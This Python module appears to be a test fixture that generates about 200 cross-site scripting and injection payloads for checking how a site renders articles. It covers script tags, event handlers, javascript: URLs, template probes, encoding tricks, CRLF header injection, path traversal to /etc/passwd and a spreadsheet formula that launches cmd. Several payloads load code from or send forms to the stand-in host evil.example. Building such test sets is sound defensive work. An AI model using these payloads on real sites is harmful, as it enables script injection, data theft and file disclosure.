"""Two hundred ways to make a browser run what an article says, from families of them.

Written for this project from the grammar of HTML, CSS, URLs, Jinja2 and htmx: each family names the mistake of a page
that would let it through.
"""

from __future__ import annotations

RUN = "window.hit=1"

_IN_TEXT = (
    "<script>{run}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>{run}</script\t>",
    "<SCRIPT>{run}</SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    '<img src=x:x onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>',
    "<math><mtext><script>{run}</script></mtext></math>",
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<object data="javascript:{run}"></object>',
    '<embed src="data:text/html,<script>{run}</script>">',
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<marquee onstart={run}>",
    "<form action=//evil.example><button>x</button></form>",
    '<button formaction="javascript:{run}">x</button>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example)}}</style>",
    '<a href="javascript:{run}">x</a>',
    '<a href="data:text/html,<script>{run}</script>">x</a>',
    "<template><script>{run}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    '<?xml version="1.0"?><script>{run}</script>',
)
_OUT_OF_ELEMENTS = (
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</option></select><script>{run}</script>",
    "</a></h2><script>{run}</script>",
    "</li></ol></main><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
)
_OUT_OF_ATTRIBUTES = (
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    '" onmouseover="{run}',
    "' onmouseover='{run}",
    " onmouseover={run} ",
    'x" autofocus onfocus="{run}" y="',
    '" style="position:fixed;inset:0',
    '" hx-get="//evil.example" hx-trigger="load" x="',
    '" hx-on:click="{run}" x="',
    '" data-hx-get="//evil.example" x="',
    "` onmouseover=`{run}`",
    '\\" onmouseover=\\"{run}',
    "&quot; onmouseover=&quot;{run}",
    "&#34; onmouseover=&#34;{run}",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
)
_TEMPLATES = (
    "{{{{ 7 * 7 }}}}",
    "{{% import 'os' as os %}}",
    "{{{{ csrf }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{# {run} #}}",
    "${{7*7}}",
    "<%= 7 * 7 %>",
    "#{{7*7}}",
    "{run}",
    "%(run)s %s %d",
    "{{0}} {{n}} {{title}}",
)
_ENCODINGS = (
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;script&#x3e;{run}",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\\u003cscript\\u003e{run}",
    "\\x3cscript\\x3e{run}",
    "＜script＞{run}＜/script＞",
    "‹script›{run}‹/script›",
    "<\u200bscript>{run}</script>",
    "\u202e>tpircs<{run}",
    "\ufeff<script>{run}</script>",
    "<script\x0c>{run}</script>",
    "<script/x>{run}</script>",
    "<img/src=x/onerror={run}>",
    "<a\x0bhref=javascript:{run}>x",
)
_HEADERS = (
    "x\r\nSet-Cookie: hit=1",
    "x\r\n\r\n<script>{run}</script>",
    "x\nLocation: //evil.example",
    "x%0d%0aSet-Cookie:%20hit=1",
    'x"; filename="evil.html',
    "../../../../etc/passwd",
    "..\\..\\windows\\system.ini",
    'x; y="z"',
)
_FORMULAS = ('=HYPERLINK("//evil.example")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1")

_FAMILIES = (_IN_TEXT, _OUT_OF_ELEMENTS, _OUT_OF_ATTRIBUTES, _ADDRESSES, _TEMPLATES, _ENCODINGS, _HEADERS, _FORMULAS)


def payloads() -> list[str]:
    """Return the payloads: each of a family alone, and those that open an element behind a word and out of a quote."""
    plain = [
        one.replace("{{", "\0").replace("}}", "\1").replace("{run}", RUN) for family in _FAMILIES for one in family
    ]
    plain = [one.replace("\0", "{").replace("\1", "}") for one in plain]
    behind = [f"Le chiffre {one}" for one in plain if one.startswith("<")]
    out = [f'">{one}' for one in plain if one.startswith("<")]
    return list(dict.fromkeys([*plain, *behind, *out]))[:200]
